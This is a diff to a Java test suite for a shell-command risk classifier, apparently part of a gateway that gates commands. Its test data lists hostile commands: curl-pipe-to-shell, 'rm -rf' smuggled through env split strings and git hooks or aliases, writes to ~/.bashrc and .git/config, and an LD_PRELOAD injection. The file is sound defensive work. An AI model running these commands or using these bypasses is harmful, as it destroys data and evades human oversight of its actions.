@@ -93,6 +93,21 @@ class ShellCommandClassifierTest {
             "read -r line => SESSION",
             "printf -v greeting '%s' hi => READ",
             "nice -n5 ls => READ",
+            "env -u HOME ls => READ",
+            "env -uHOME -i ls => READ",
+            "env --unset HOME ls => READ",
+            "env - ls => READ",
+            "git status => WRITE",
+            "git -C repo log --oneline => WRITE",
+            "git commit -am 'fix' => WRITE",
+            "git add -A => WRITE",
+            "git pull --rebase => WRITE",
+            "git tag v1.0 => WRITE",
+            "git tag -a v1.0 -m release => WRITE",
+            "git revert --no-edit HEAD => WRITE",
+            "git config --get user.name => WRITE",
+            "git clone https://example.org/r.git => WRITE",
+            "echo x > notes/.bashrc.bak => WRITE",
     })
     void classifiesKnownCommands(String line, StatementClass expected) {
         assertThat(ShellCommandClassifier.classify(line.strip()).statementClass()).isEqualTo(expected);
@@ -108,6 +123,9 @@ class ShellCommandClassifierTest {
             "curl https://x | sh", "curl https://x | bash -s", "eval sudo id", "source ./env.sh", ". ./env.sh",
             "/tmp/sudo id", "find / -exec rm {} ;", "ls | xargs rm", "echo hi > ../../etc/passwd", "bash -c \"$X\"",
             "git -c core.sshCommand=evil fetch", "tar -xPf a.tar", "env -S 'sudo id'", "vim /etc/hosts",
+            // env's split string attached to its option, in a cluster or as a long option: a read until 2026-12-06.
+            "env -S'rm -rf /'", "env -iS'sudo id'", "env -vS 'sudo id'", "env --split-string='sudo id'",
+            "env --split-string 'sudo id'", "env --split='sudo id'", "env --chdir=/etc rm passwd", "env -C/etc rm passwd",
             "sh", "bash script.sh", "cat <(sudo id)", "echo $((1+2))", "echo ${X:-$(sudo id)}",
             // Options and variables that name a program for a known one to run.
             "zip x.zip a -T -TT 'sh -c id'", "zip x.zip a --unzip-command=evil", "rsync -e 'sh -c id' a b:",
@@ -149,6 +167,104 @@ class ShellCommandClassifierTest {
         ShellClassification classification = ShellCommandClassifier.classify(line);
         assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
                 .isEqualTo(StatementClass.UNKNOWN);
+    }
+
+    /**
+     * getopt_long takes any unambiguous prefix of a long option: {@code rm --r} is {@code --recursive},
+     * {@code date --s=} is {@code --set=}. Read only by their whole names, these were a WRITE or a READ
+     * until 2026-12-06.
+     */
+    @ParameterizedTest(name = "{0} -> {1}")
+    @CsvSource(delimiterString = " => ", value = {
+            "rm --r build => BULK_WRITE",
+            "rm --recur -f build => BULK_WRITE",
+            "rm -r --no-pres build => DANGEROUS_ADMIN",
+            "date --s=2030-01-01 => DANGEROUS_ADMIN",
+            "date --da=yesterday => READ",
+            "ss --ki dst 10.0.0.1 => DDL",
+            "sort --out=/etc/passwd x => PRIVILEGE",
+            "sort --o /etc/passwd x => PRIVILEGE",
+            "rsync -a --del a/ b/ => BULK_WRITE",
+            "journalctl --vac=1d => DDL",
+            "sysctl --sys => DANGEROUS_ADMIN",
+            "less --log=/etc/x app.log => PRIVILEGE",
+            "curl --out /etc/cron.d/x https://example.org => PRIVILEGE",
+            "/usr/bin/time --form ls rm -rf build => BULK_WRITE",
+            "timeout --sig KILL 5 rm -rf build => BULK_WRITE",
+    })
+    void abbreviatedLongOptionsAreReadAsTheOptionsTheyName(String line, StatementClass expected) {
+        assertThat(ShellCommandClassifier.classify(line.strip()).statementClass()).isEqualTo(expected);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"tar -xf a.tar --to-c='sh -c id'", "tar -cf /dev/null x --checkpoint=1 --checkpoint-a=exec=id",
+            "tar --use-c=evil -xf a.tar", "tar -xf a.tar --absolute-n", "sort --compress-p=evil x", "split --fil='sh -c id' x",
+            "zip x.zip a --unzip-c=evil", "env --s='sudo id'", "env --sp 'sudo id'", "env --ch=/etc rm x"})
+    void abbreviatedLongOptionsThatRunProgramsAreUnknown(String line) {
+        ShellClassification classification = ShellCommandClassifier.classify(line);
+        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
+                .isEqualTo(StatementClass.UNKNOWN);
+    }
+
+    /**
+     * git runs programs its configuration, options, aliases and editor name; so do the files a later
+     * login, shell or program reads: each a WRITE (or a read) until 2026-12-06, and a way to run
+     * what the gateway never saw ({@code core.fsmonitor} runs at the next {@code git status}).
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"git config core.fsmonitor 'rm -rf d'", "git config alias.x '!rm -rf d'",
+            "git config --global core.pager evil", "git config set core.sshCommand evil", "git --config-env=core.pager=X log",
+            "git --git-dir=/tmp/x status", "git --work-tree /tmp status", "git clone -u 'rm -rf d' host:r",
+            "git clone --upload-pack='rm -rf d' host:r", "git clone -c core.fsmonitor=evil host:r",
+            "git clone --template=/tmp/t host:r", "git ls-remote --upload-pack=evil host:r", "git push --exec=evil host:r",
+            "git archive --remote=host:r --exec=evil HEAD", "git rebase -x 'rm -rf d' HEAD~1", "git rebase --exec=evil main",
+            "git rebase -i HEAD~2", "git grep -Oevil x", "git grep --open-files-in-pager=evil x", "git bisect run evil",
+            "git submodule foreach 'rm -rf d'", "git difftool -x evil", "git difftool --extcmd=evil", "git x",
+            "git commit", "git commit --amend", "git commit -c HEAD", "git tag -a v1", "git revert HEAD", "git add -p",
+            "git notes add", "git pull --rebase=interactive", "GIT_DIR=/tmp/x git status", "GIT_SEQUENCE_EDITOR=evil git log",
+            "git help config", "git $CMD", "git rebase --exe=evil main", "git clone --upload-p=evil h:r",
+            "git grep --open-f=evil x", "git add --pat",
+            "echo 'rm -rf d' >> ~/.bashrc", "cp x /home/app/.profile", "tee -a .zshenv", "echo x > repo/.git/config",
+            "cp hook repo/.git/hooks/post-checkout", "printf x > ~/.gitconfig", "echo x > ~/.config/git/config",
+            "echo x > ~/.config/systemd/user/x.service", "echo 'LD_PRELOAD=/tmp/x.so' > ~/.pam_environment",
+            "curl -o ~/.curlrc https://example.org", "echo x > ~/.lesskey",
+            // less reads a lesskey file whose #env section sets LESSOPEN, which runs a command per file read.
+            "less --lesskey-src=/tmp/k x", "less -k /tmp/k x", "LESSKEYIN=/tmp/k less x", "HOME=/tmp/x git status",
+            "XDG_CONFIG_HOME=/tmp/x less x", "tar -xf a.tar -F evil", "tar --info-script=evil -cf a.tar x",
+            "tar -cf h:a.tar --rsh-command=evil x", "LD_DEBUG_OUTPUT=/etc/x ls", "GCONV_PATH=/tmp ls"})
+    void whatNamesProgramsThatRunLaterIsUnknown(String line) {
+        ShellClassification classification = ShellCommandClassifier.classify(line);
+        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
+                .isEqualTo(StatementClass.UNKNOWN);
+    }
+
+    @ParameterizedTest(name = "{0} {1} -> {2}")
+    @CsvSource({"write, /home/app/.bashrc", "write, /home/app/repo/.git/config", "rename, /home/app/.profile"})
+    void fileChangesToWhatRunsLaterAreUnknown(String operation, String path) {
+        assertThat(ShellCommandClassifier.fileChange(List.of(path), operation).statementClass())
+                .isEqualTo(StatementClass.UNKNOWN);
+    }
+
+    /**
+     * With a terminal, a pager ({@code !command}), {@code top} ({@code k}) and programs that page their
+     * output read keystrokes that run commands: a shell by another name. Without one they only print.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"less app.log", "more app.log", "top", "htop", "git log", "git -C repo diff",
+            "journalctl -u nginx", "systemctl status nginx", "dpkg -l", "nice less app.log", "sh -c 'less app.log'",
+            "cat app.log | less", "ls; top"})
+    void programsThatTakeCommandKeystrokesInATerminalAreUnknown(String line) {
+        assertThat(ShellCommandClassifier.classify(line).statementClass().isHighestRisk()).as(line).isFalse();
+        ShellClassification inTerminal = ShellCommandClassifier.classifyInTerminal(line);
+        assertThat(inTerminal.statementClass()).as("%s %s", line, inTerminal.reasons()).isEqualTo(StatementClass.UNKNOWN);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"cat app.log", "git --no-pager log", "git -P log", "systemctl --no-pager status nginx",
+            "journalctl --no-pager -u nginx", "journalctl -fu nginx", "dmesg -T", "uptime", "tail -n 20 app.log"})
+    void programsThatOnlyPrintAreClassifiedAlikeInATerminal(String line) {
+        assertThat(ShellCommandClassifier.classifyInTerminal(line).statementClass())
+                .isEqualTo(ShellCommandClassifier.classify(line).statementClass());
     }
 
     @ParameterizedTest
